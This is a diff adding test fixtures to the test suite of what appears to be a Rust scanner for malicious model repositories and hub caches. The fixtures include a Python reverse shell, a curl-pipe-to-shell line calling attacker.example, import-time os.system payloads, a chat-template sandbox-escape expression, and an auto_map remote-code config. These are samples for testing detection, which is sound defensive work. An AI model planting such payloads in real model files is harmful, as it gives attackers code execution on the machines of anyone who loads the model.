@@ -124,6 +124,19 @@ attacks! {
         python("import os, socket, subprocess\ndef f():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 1))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n");
     "code-command", "code/hostile-command", Suspicious, [],
         python("import os\ndef f():\n    os.system('curl http://attacker.example/x | sh')\n");
+    "code-of-any-name", "code/import-effect", Malicious, [],
+        calling("harmless", vec![("harmless.py", "import os\nos.system('id')\nclass X: pass\n")]);
+    "code-imported", "code/import-effect", Malicious, [],
+        calling("parts.first", vec![
+            ("parts/first.py", "from ..second import X\n"),
+            ("second.py", "import os\nos.system('id')\nclass X: pass\n"),
+        ]);
+    "hub-code-in-blob", "code/import-effect", Malicious, [],
+        hub_blob("anything.py", "{}\nimport os\nos.system('id')\n");
+    "hub-template-in-blob", "template/hidden-attribute", Malicious, [],
+        hub_blob("tokenizer_config.json", r#"{"tokenizer_class": "X", "chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#);
+    "hub-config-in-blob", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
+        hub_blob("config.json", r#"{"model_type": "x", "auto_map": {"AutoModel": "other/code--modeling_x.X"}}"#);
     "code-encoding", "code/not-understood", Unreadable, [],
         python("# -*- coding: utf-7 -*-\n#+AAo-import os\n");
     "code-cut", "code/not-understood", Unreadable, [],
@@ -165,6 +178,26 @@ fn file(name: &str, text: &str) -> Vec<(String, Content)> {
 
 fn python(text: &str) -> Vec<(String, Content)> {
     file("modeling_x.py", text)
+}
+
+/// A repository whose configuration has loading run a module of its folder.
+fn calling(module: &str, code: Vec<(&str, &str)>) -> Vec<(String, Content)> {
+    let config = json!({"model_type": "x", "auto_map": {"AutoModel": format!("{module}.X")}}).to_string();
+    let files = code.into_iter().map(|(name, text)| (format!("m/{name}"), Content::Bytes(text.into())));
+    [("m/config.json".to_owned(), Content::Bytes(config.into()))].into_iter().chain(files).collect()
+}
+
+/// A hub cache with one file, whose name is that of a link.
+fn hub_blob(name: &str, text: &str) -> Vec<(String, Content)> {
+    let blob = digest(text.as_bytes());
+    vec![
+        (format!("models--org--name/blobs/{blob}"), Content::Bytes(text.into())),
+        ("models--org--name/refs/main".to_owned(), Content::Bytes(COMMIT.into())),
+        (
+            format!("models--org--name/snapshots/{COMMIT}/{name}"),
+            Content::Symlink(format!("../../blobs/{blob}")),
+        ),
+    ]
 }
 
 fn named(name: &str, value: Value) -> Vec<(String, Content)> {
